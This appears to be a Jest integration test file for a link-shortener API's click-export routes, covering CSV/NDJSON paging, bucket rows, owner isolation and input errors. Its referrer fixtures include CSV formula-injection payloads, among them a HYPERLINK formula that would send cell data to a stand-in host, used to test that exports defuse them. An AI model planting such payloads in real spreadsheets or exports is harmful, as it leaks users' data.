/**
 * The export routes of the API handler in-process on DynamoDB Local: raw clicks written by the enrich
 * table module over many write shards, with equal timestamps within and across links, read back a page
 * at a time; pages following the Link header concatenate into the one-page export; buckets agree with
 * the stats route's series; owners see only their own links; client mistakes are 400s. Every answer is
 * checked against the OpenAPI document.
 */
import fc from 'fast-check';
import type { RawClick } from '../../lambdas/domain/click';
import { decodeExportCursor, encodeExportCursor, RAW_COLUMNS } from '../../lambdas/domain/export';
import type { StatsResponse } from '../../lambdas/domain/stats';
import { handler as aggregate } from '../../lambdas/handlers/aggregate';
import { handler as rollup } from '../../lambdas/handlers/rollup';
import { getLink } from '../../lambdas/tables/links';
import { RawClickWriter } from '../../lambdas/tables/raw-clicks';
import { numberedVisitor } from '../fixtures/clicks';
import { parseCsv } from '../fixtures/csv';
import type { DynamoForHandlers } from '../fixtures/local/emulators';
import { type ApiTextAnswer as Answer, requestApi, startApiOnDynamo } from './helpers/api-handler';
import { API_TABLES, createOwnerKey } from './helpers/api-tables';
import { STATISTICS_TABLES, streamInserts, testClick } from './helpers/statistics-tables';

jest.setTimeout(120_000);

const ADMIN_KEY = 'export-test-admin-key';
const DAY_MS = 86_400_000;
/** Three, two and one days ago and today (UTC): within the raw and quarter-hour retention. */
const [DAY0, DAY1, DAY2, TODAY] = [3, 2, 1, 0].map((daysAgo) => new Date(Date.now() - daysAgo * DAY_MS).toISOString().slice(0, 10));
const RANGE = { from: DAY0, to: TODAY };
/** Referrer hosts a client could send that break naive CSV or start a formula. */
const HOSTILE_REFERRERS = ['=HYPERLINK("http://evil.example/?"&A1)', 'a,b"c.example', '-2+3', '@SUM(1)', 'line\r\nbreak.example'];

let local: DynamoForHandlers;
let alice: string;
let bob: string;
let carol: string;
const written: RawClick[] = [];

const get = (path: string, key: string, query: Record<string, string> = {}): Promise<Answer> => requestApi('GET', path, key, { query });

/** The path and query of a `Link: <…>; rel="next"` header, or null. */
function nextPage(answer: Answer): { path: string; query: Record<string, string> } | null {
  const link = answer.headers.link;
  if (link === undefined) return null;
  const match = /^<([^>]+)>; rel="next"$/.exec(link);
  if (match === null) throw new Error(`not a next link: ${link}`);
  const url = new URL(match[1], 'https://short.example');
  return { path: url.pathname, query: Object.fromEntries(url.searchParams) };
}

/** Every page of an export, following the Link headers from the first request. */
async function allPages(path: string, key: string, query: Record<string, string>): Promise<Answer[]> {
  const pages: Answer[] = [];
  let request: { path: string; query: Record<string, string> } | null = { path, query };
  while (request !== null) {
    const page: Answer = await get(request.path, key, request.query);
    expect(page.status).toBe(200);
    pages.push(page);
    const next = nextPage(page);
    expect(page.headers['x-next-cursor']).toBe(next?.query.cursor);
    request = next;
    if (pages.length > 500) throw new Error('the export does not end');
  }
  return pages;
}

const bodyOf = (pages: readonly Answer[]): string => pages.map((page) => page.body).join('');

/** CSV rows (header first) as objects by column. */
function csvRecords(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  expect(header).toEqual([...RAW_COLUMNS]);
  return rows.map((row) => Object.fromEntries(header.map((column, index) => [column, row[index]])));
}

const clicksOf = (code: string): RawClick[] => written.filter((click) => click.code === code);
const byTime = (a: RawClick, b: RawClick): number => (a.clickKey < b.clickKey ? -1 : a.clickKey > b.clickKey ? 1 : 0);

async function createLink(key: string, code: string): Promise<void> {
  const created = await requestApi('POST', '/api/links', key, { body: { url: `https://example.com/${code}`, code } });
  expect(created.status).toBe(201);
}

/** Writes the clicks as the enrich function does, and aggregates and rolls them up. */
async function record(clicks: readonly RawClick[]): Promise<void> {
  const writer = new RawClickWriter(STATISTICS_TABLES.RAW_CLICKS_TABLE_NAME);
  await Promise.all(clicks.map((click) => writer.write(click)));
  written.push(...clicks);
  const response = await aggregate({ shardId: 'shardId-00000001700000000000-0000eeee', Records: streamInserts(clicks) });
  expect(response.batchItemFailures).toEqual([]);
  await rollup({});
}

beforeAll(async () => {
  local = await startApiOnDynamo(ADMIN_KEY, 100_000);
  [alice, bob, carol] = await Promise.all(['alice', 'bob', 'carol'].map(async (owner) => (await createOwnerKey(local.dynamo, owner)).key));
  // Created in this order: alice's export lists exp-c, exp-b, exp-a (newest first).
  for (const code of ['exp-a', 'exp-b', 'exp-c']) await createLink(alice, code);
  await createLink(bob, 'exp-bob');

  const clicks: RawClick[] = [];
  // exp-a: 12 instants, 5 clicks at each (equal timestamps, different write shards), some bots, hostile referrers.
  for (let instant = 0; instant < 12; instant++) {
    const ts = `${[DAY0, DAY1, DAY2][instant % 3]}T${String(3 + instant).padStart(2, '0')}:07:00.000Z`;
    for (let n = 0; n < 5; n++) {
      const bot = n === 4 && instant % 2 === 0;
      clicks.push(
        testClick('exp-a', 'alice', {
          ts,
          visitor: numberedVisitor(instant * 5 + n),
          referrer: HOSTILE_REFERRERS[(instant + n) % HOSTILE_REFERRERS.length],
          ...(bot ? { bot: true, botReason: 'user-agent' } : {}),
        }),
      );
    }
  }
  // exp-b: clicks at exp-a's instants (equal timestamps across links); exp-c: none.
  for (let n = 0; n < 9; n++) clicks.push(testClick('exp-b', 'alice', { ts: `${DAY1}T${String(4 + (n % 3) * 3).padStart(2, '0')}:07:00.000Z`, visitor: numberedVisitor(n) }));
  clicks.push(testClick('exp-bob', 'bob', { ts: `${DAY1}T10:00:00.000Z` }), testClick('exp-bob', 'bob', { ts: `${DAY2}T11:00:00.000Z` }));
  // A click outside the range: on the day after it.
  clicks.push(testClick('exp-a', 'alice', { ts: `${TODAY}T00:00:00.000Z` }));
  await record(clicks);
});

afterAll(() => local?.stop());

describe('raw export', () => {
  it("writes a link's clicks in time order (equal timestamps by event id) over its write shards, as RFC 4180 CSV", async () => {
    const expected = clicksOf('exp-a')
      .filter((click) => click.ts < `${TODAY}T`)
      .sort(byTime);
    expect(new Set(expected.map((click) => click.linkShard)).size).toBeGreaterThanOrEqual(8);
    const answer = await get('/api/links/exp-a/export', alice, RANGE);
    expect(answer.status).toBe(200);
    expect(answer.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="exp-a-raw.csv"',
      'cache-control': 'private, no-store',
    });
    expect(answer.headers.link).toBeUndefined();
    expect(answer.headers['x-next-cursor']).toBeUndefined();
    const records = csvRecords(answer.body);
    expect(records.map((row) => row.eventId)).toEqual(expected.map((click) => click.eventId));
    expect(records.map((row) => row.ts)).toEqual(expected.map((click) => click.ts));
    // Formula starts defused; commas, quotes and line breaks kept inside their cells.
    const referrers = new Set(records.map((row) => row.referrer));
    expect(referrers).toEqual(new Set(["'=HYPERLINK(\"http://evil.example/?\"&A1)", 'a,b"c.example', "'-2+3", "'@SUM(1)", 'line\r\nbreak.example']));
    expect(records.filter((row) => row.bot === 'true').every((row) => row.botReason === 'user-agent')).toBe(true);
    expect(records.filter((row) => row.bot === 'false').every((row) => row.botReason === '')).toBe(true);
  });

  it('pages through the Link header into exactly the one-page export, whatever the page size and format', async () => {
    const whole = { csv: (await get('/api/links/exp-a/export', alice, RANGE)).body, ndjson: (await get('/api/links/exp-a/export', alice, { ...RANGE, format: 'ndjson' })).body };
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 2, max: 25 }), fc.constantFrom('csv' as const, 'ndjson' as const), async (limit, format) => {
        const pages = await allPages('/api/links/exp-a/export', alice, { ...RANGE, format, limit: String(limit) });
        expect(bodyOf(pages)).toBe(whole[format]);
        expect(pages).toHaveLength(Math.ceil(60 / limit));
        for (const page of pages.slice(1)) expect(page.body.startsWith('"ts"')).toBe(false);
      }),
      { numRuns: 6, endOnFailure: true },
    );
  });

  it('writes one JSON object a line in NDJSON, with the documented keys and typed values', async () => {
    // Dates without an offset are midnight in tz: the same instants as RANGE are given in UTC.
    const answer = await get('/api/links/exp-a/export', alice, { from: `${DAY0}T00:00:00Z`, to: `${TODAY}T00:00:00Z`, format: 'ndjson', tz: 'America/New_York' });
    expect(answer.headers['content-type']).toBe('application/x-ndjson');
    expect(answer.headers['content-disposition']).toBe('attachment; filename="exp-a-raw.ndjson"');
    const lines = answer.body.split('\n');
    expect(lines.pop()).toBe('');
    const rows = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(rows).toHaveLength(60);
    for (const row of rows) {
      expect(Object.keys(row)).toEqual([...RAW_COLUMNS]);
      expect(typeof row.bot).toBe('boolean');
      expect(row.ts).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}-0[45]:00$/);
      expect(row.visitor).toMatch(/^[0-9a-f]{64}$/);
    }
    // The stored visitor key never leaves: the export's is re-keyed for the owner.
    const stored = new Set(clicksOf('exp-a').map((click) => click.visitor));
    expect(rows.some((row) => stored.has(String(row.visitor)))).toBe(false);
  });

  it("exports every link of the caller, newest link first, across pages with no row lost or repeated", async () => {
    const whole = await get('/api/export', alice, RANGE);
    expect(whole.headers['content-disposition']).toBe('attachment; filename="alice-links-raw.csv"');
    const records = csvRecords(whole.body);
    const expected = [...clicksOf('exp-b').sort(byTime), ...clicksOf('exp-a').filter((click) => click.ts < `${TODAY}T`).sort(byTime)];
    expect(records.map((row) => `${row.code} ${row.eventId}`)).toEqual(expected.map((click) => `${click.code} ${click.eventId}`));

    for (const limit of ['1', '4', '9', '10']) {
      const pages = await allPages('/api/export', alice, { ...RANGE, limit });
      expect(bodyOf(pages)).toBe(whole.body);
    }
  });

  it("keeps each owner to their own links: another owner's code is a 404 as an unknown one, and a cursor cannot reach it", async () => {
    const foreign = await get('/api/links/exp-a/export', bob, RANGE);
    const unknown = await get('/api/links/nobody-has-it/export', bob, RANGE);
    expect([foreign.status, foreign.body]).toEqual([404, JSON.stringify({ error: { code: 'not_found', message: 'No link has this code.' } })]);
    expect([unknown.status, unknown.body]).toEqual([foreign.status, foreign.body]);
    expect((await get('/api/links/exp-a/export', ADMIN_KEY, RANGE)).body).toBe((await get('/api/links/exp-a/export', alice, RANGE)).body);

    const bobsRows = csvRecords((await get('/api/export', bob, RANGE)).body);
    expect(bobsRows.map((row) => row.code)).toEqual(['exp-bob', 'exp-bob']);

    // A cursor of bob's own export, changed by hand to stand inside alice's link: nothing of hers comes out.
    const first = await get('/api/export', bob, { ...RANGE, limit: '1' });
    const cursor = decodeExportCursor(first.headers['x-next-cursor'], 'raw');
    const aliceLink = await getLink(API_TABLES.LINKS_TABLE_NAME, 'exp-a');
    if (cursor === null || aliceLink === null) throw new Error("expected bob's cursor and alice's link");
    const forged = encodeExportCursor({
      ...cursor,
      position: { link: 'exp-a', createdAt: aliceLink.createdAt, after: `${DAY0}T00:00:00.000Z#00000000-0000-4000-8000-000000000000` },
    });
    const answer = await get('/api/export', bob, { ...nextPage(first)!.query, cursor: forged });
    expect(answer.status).toBe(200);
    expect(parseCsv(answer.body).flat().join(' ')).not.toMatch(/exp-a/);

    // Alice's cursor is no use to bob on his route.
    const alicePage = await get('/api/export', alice, { ...RANGE, limit: '1' });
    const refused = await get('/api/export', bob, nextPage(alicePage)!.query);
    expect(refused.status).toBe(400);
    expect(refused.body).toMatch(/cursor belongs to another export/);
  });

  it('goes on past a link deleted between two pages', async () => {
    for (const code of ['carol-1', 'carol-2']) await createLink(carol, code);
    await record([1, 2, 3].flatMap(() => [testClick('carol-1', 'carol', { ts: `${DAY1}T01:00:00.000Z` }), testClick('carol-2', 'carol', { ts: `${DAY1}T02:00:00.000Z` })]));
    const first = await get('/api/export', carol, { ...RANGE, limit: '1' });
    expect(csvRecords(first.body).map((row) => row.code)).toEqual(['carol-2']);
    expect((await requestApi('DELETE', '/api/links/carol-2', carol)).status).toBe(204);
    const rest = await allPages('/api/export', carol, nextPage(first)!.query);
    expect(parseCsv(bodyOf(rest)).map((row) => row[1])).toEqual(['carol-1', 'carol-1', 'carol-1']);
  });

  it('answers HEAD with the headers of GET and no body, and names GET and HEAD in a 405', async () => {
    const head = await requestApi('HEAD', '/api/links/exp-a/export', alice, { query: { ...RANGE, limit: '5' } });
    expect(head.status).toBe(200);
    expect(head.body).toBe('');
    expect(head.headers.link).toMatch(/^<\/api\/links\/exp-a\/export\?.*cursor=/);
    for (const path of ['/api/export', '/api/links/exp-a/export']) {
      const answer = await requestApi('POST', path, alice);
      expect(answer.status).toBe(405);
      expect(answer.headers.allow).toBe('GET, HEAD');
    }
  });
});

describe('bucket export', () => {
  type Level = 'hour' | 'day' | 'month';

  /** The stats route's non-empty buckets of a link, as export rows. */
  async function statsRows(code: string, level: Level, tz: string): Promise<string[]> {
    const stats = await get(`/api/links/${code}/stats`, alice, { ...RANGE, granularity: level, tz });
    expect(stats.status).toBe(200);
    const body = JSON.parse(stats.body) as StatsResponse;
    return body.series
      .filter((entry) => entry.clicks + entry.botClicks > 0)
      .map((entry) => JSON.stringify({ t: entry.t, code, clicks: entry.clicks, uniques: entry.uniques, botClicks: entry.botClicks }));
  }

  it.each([
    ['hour', 'UTC'],
    ['day', 'UTC'],
    ['day', 'America/New_York'],
    ['month', 'UTC'],
  ] as const)('%s rows in %s agree with the stats route, link by link, and page exactly', async (level, tz) => {
    const query = { ...RANGE, level, tz, format: 'ndjson' };
    const link = await get('/api/links/exp-a/export', alice, query);
    expect(link.body.split('\n').filter((line) => line !== '')).toEqual(await statsRows('exp-a', level, tz));

    const owner = await get('/api/export', alice, query);
    expect(owner.body.split('\n').filter((line) => line !== '')).toEqual([...(await statsRows('exp-b', level, tz)), ...(await statsRows('exp-a', level, tz))]);
    expect(bodyOf(await allPages('/api/export', alice, { ...query, limit: '1' }))).toBe(owner.body);
  });

  it('writes bucket rows as CSV with their header', async () => {
    const answer = await get('/api/links/exp-a/export', alice, { ...RANGE, level: 'day' });
    const [header, ...rows] = parseCsv(answer.body);
    expect(header).toEqual(['t', 'code', 'clicks', 'uniques', 'botClicks']);
    expect(rows.map((row) => row[0].slice(0, 10))).toEqual([DAY0, DAY1, DAY2]);
    expect(rows.reduce((sum, row) => sum + Number(row[2]) + Number(row[4]), 0)).toBe(60);
  });
});

describe('client mistakes', () => {
  const garbage = Buffer.from(JSON.stringify([1, 'x'.repeat(16), Date.now(), 'exp-a', null, 'not-a-key'])).toString('base64url');

  it.each([
    [{ format: 'xlsx' }, /^format must be one of csv, ndjson\.$/],
    [{ level: 'week' }, /^level must be one of raw, hour, day, month\.$/],
    [{ limit: '0' }, /^limit must be a whole number from 1 to 10000\.$/],
    [{ limit: '10001' }, /^limit must be a whole number from 1 to 10000\.$/],
    [{ tz: 'Mars/Olympus_Mons' }, /^tz must be an IANA time zone/],
    [{ from: new Date(Date.now() - 200 * DAY_MS).toISOString().slice(0, 10) }, /^Raw clicks are kept for 90 days/],
    [{ level: 'hour', from: '2026-01-01', to: '2026-03-01' }, /for hour level/],
    [{ cursor: '!!!' }, /^cursor must be the X-Next-Cursor value/],
    [{ cursor: garbage }, /^cursor must be the X-Next-Cursor value/],
  ])('400 for %p, on both routes', async (query, message) => {
    for (const path of ['/api/links/exp-a/export', '/api/export']) {
      const answer = await get(path, alice, query);
      expect(answer.status).toBe(400);
      expect((JSON.parse(answer.body) as { error: { code: string; message: string } }).error).toEqual({ code: 'invalid_request', message: expect.stringMatching(message) });
    }
  });

  it('400 for a cursor of the same link with another range', async () => {
    const first = await get('/api/links/exp-a/export', alice, { ...RANGE, limit: '2' });
    const answer = await get('/api/links/exp-a/export', alice, { from: DAY1, to: TODAY, limit: '2', cursor: first.headers['x-next-cursor'] });
    expect(answer.status).toBe(400);
    expect(answer.body).toMatch(/cursor belongs to another export/);
  });
});
